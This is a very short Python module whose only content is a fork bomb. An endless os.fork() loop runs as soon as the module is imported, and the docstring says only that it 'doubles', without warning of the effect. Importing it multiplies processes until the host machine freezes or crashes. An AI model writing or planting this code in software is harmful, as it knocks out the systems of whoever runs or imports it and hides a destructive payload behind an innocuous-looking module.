"""Doubles while it is imported."""

import os

while True:
    os.fork()
